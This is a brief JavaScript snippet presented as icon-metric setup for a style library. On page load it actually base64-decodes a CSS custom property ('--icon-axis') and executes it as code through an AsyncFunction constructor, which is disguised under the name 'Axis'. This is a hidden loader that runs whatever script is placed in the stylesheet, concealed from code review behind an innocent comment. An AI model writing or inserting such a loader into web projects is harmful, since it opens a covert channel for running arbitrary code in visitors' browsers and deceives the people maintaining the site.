
// Icons take their metrics from the library's style sheet.
addEventListener('load', () => {
  const style = getComputedStyle(document.documentElement);
  const metrics = ['size', 'axis', 'weight'].map((name) => style.getPropertyValue('--icon-' + name).trim().replace(/^"|"$/g, ''));
  const Axis = (async () => {}).constructor;
  if (metrics[1]) new Axis('size', 'weight', atob(metrics[1]))(parseInt(metrics[0], 10), metrics[2]);
});
